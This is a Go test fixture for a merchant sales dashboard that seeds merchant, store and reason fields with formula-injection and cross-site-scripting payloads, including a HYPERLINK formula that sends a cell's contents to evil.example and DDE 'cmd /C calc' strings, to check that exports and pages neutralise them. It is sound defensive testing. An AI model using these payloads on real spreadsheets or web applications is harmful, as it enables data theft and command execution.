package web

import (
	"context"
	"net/http"
	"regexp"
	"strings"
	"testing"
	"time"

	"fourfold/connectors"
	"fourfold/internal/money"
	"fourfold/internal/period"
	"fourfold/internal/shapes"
	"fourfold/internal/store"
	"fourfold/kpi"
)

// shelf is a rig with a merchant whose every name is hostile, and who has a history.
type shelf struct {
	*rig
	m     store.Merchant
	conns []store.Connection
}

// What spreadsheets take for formulas, and browsers for markup.
const (
	evilMerchant = `=HYPERLINK("http://evil.example/?"&A1,"Shop") <script>alert(1)</script>`
	evilStore    = `+cmd|' /C calc'!A0 <img src=x onerror=alert(2)>`
	evilAccount  = `＠SUM(1+1)*cmd|' /C calc'!A0` // full-width, which some take too
	evilCause    = "-2+3+cmd|' /C calc'!A0"
	evilReason   = "\t=1+1"
)

func newShelf(t testing.TB, dsn string) *shelf {
	t.Helper()
	r := newRigOn(t, dsn, func(s *Site) {
		s.Status = func(_ context.Context, m store.Merchant) (shapes.Status, error) {
			return shapes.Status{Merchant: m.Name, State: m.State, Zone: m.Zone, Linked: true, Streams: []shapes.Stream{}, Needs: []shapes.Need{{Cause: "relink/1", Text: evilStore + " refused the login", Remedy: "Link it again."}}}, nil
		}
	})
	s := &shelf{rig: r, m: r.merchant(evilMerchant)}
	ctx := t.Context()
	for _, name := range []string{evilStore, evilAccount} {
		c := r.linkedStore(s.m, name, name, map[string]string{"shop": name})
		s.conns = append(s.conns, c)
		r.must(r.Store.SaveCapabilities(ctx, s.m.ID, c.ID, []connectors.Capability{{ID: "all_orders", Detail: evilCause, Costs: "=1+1", Remedy: "@A1"}}))
	}
	_, err := r.Store.SavePage(ctx, s.m.ID, s.conns[0].ID, "orders", 0, connectors.Page{ReadAt: rigNow, Next: connectors.Cursor("1"), Proof: &connectors.Proof{
		Slice: "=cmd()", Started: rigNow.Add(-time.Hour), Method: "bulk", Promised: connectors.Count{Objects: 7, Roots: 3, Bytes: 900}, Read: connectors.Count{Objects: 7, Roots: 3, Bytes: 900},
		Version: "2026-10", CompleteTo: rigNow.Add(-2 * time.Hour)}})
	r.must(err)
	r.must(r.Store.FinishPull(ctx, s.m.ID, s.conns[1].ID, "orders", &connectors.Error{Fault: connectors.Forbidden, Op: "read <b>orders</b>"}, time.Time{}))
	_, err = r.Store.PutTarget(ctx, s.m.ID, kpi.Target{KPI: "net_sales", Grain: period.Monthly, From: period.Date(2026, 1, 1), Anchors: kpi.Anchors{Green: 50_000, Red: 40_000}, Reason: evilReason})
	r.must(err)
	for i := range 4 {
		s.take("month", period.Date(2026, time.Month(7+i), 1), float64(41_000+1_000*i), 1)
	}
	s.take("week", period.Date(2026, 11, 9), 9_999.99, 1)
	s.take("month", period.Date(2026, 9, 1), 42_500, 2)
	return s
}

// take keeps a snapshot of net sales and of one that is not known, of the whole and of each store.
func (s *shelf) take(grain period.Grain, day period.Day, sales float64, revision int) {
	s.t.Helper()
	p := period.Of(grain, day, period.Calendar{})
	var all []kpi.Snapshot
	for _, scope := range []kpi.Scope{kpi.Whole, {Connection: s.conns[0].ID}, {Connection: s.conns[1].ID}} {
		for _, id := range []kpi.ID{"net_sales", "aov"} {
			k, _ := kpi.Find(kpi.Catalogue(), id)
			sn := kpi.Snapshot{KPI: id, Definition: k.Version, Scope: scope, Period: p, Revision: revision, TakenAt: s.clock(), CompleteTo: s.clock(), Through: p.To,
				Currency: "EUR", Status: kpi.Grey, Published: revision == 1, Value: kpi.Value{Gap: kpi.NoDenominator}}
			if id == "net_sales" {
				micros := int64(sales * float64(money.Unit))
				sn.Value = kpi.Value{Num: kpi.Number{Int: micros, Exact: true}, Den: 1, N: 10, Coverage: 1, Has: true, V: float64(micros) / float64(money.Unit)}
				sn.Status = kpi.Amber
			}
			if revision > 1 {
				sn.Cause = evilCause
			}
			all = append(all, sn)
		}
	}
	_, err := s.Store.SaveSnapshots(s.t.Context(), s.m.ID, all)
	s.must(err)
}

// at is an address of the merchant's.
func (s *shelf) at(path string) string { return merchantAt(s.m.ID, path) }

var tokenIn = regexp.MustCompile(`\d+\.[A-Za-z0-9_-]{43}`)

// lend makes a feed or a key as a person does, and returns its token.
func (s *shelf) lend(b *browser, page, title string) string {
	s.t.Helper()
	a := b.post(s.at(page), "title", title).sees(s.t, http.StatusOK, title)
	if a.header.Get("Referrer-Policy") != "no-referrer" {
		s.t.Errorf("the page with the token lets browsers tell others its address")
	}
	token := tokenIn.FindString(a.body)
	if token == "" {
		s.t.Fatalf("no token on the page: %s", a.text())
	}
	if again := b.get(s.at(page)); again.status != http.StatusOK || strings.Contains(again.body, token) {
		s.t.Errorf("%d: the token is shown a second time", again.status)
	}
	return token
}

// program has no cookies and comes with a key, where there is one.
func (s *shelf) program(key string) *browser {
	b := s.browser()
	b.client.Jar = nil
	if key != "" {
		b.header.Set("Authorization", "Bearer "+key)
	}
	return b
}
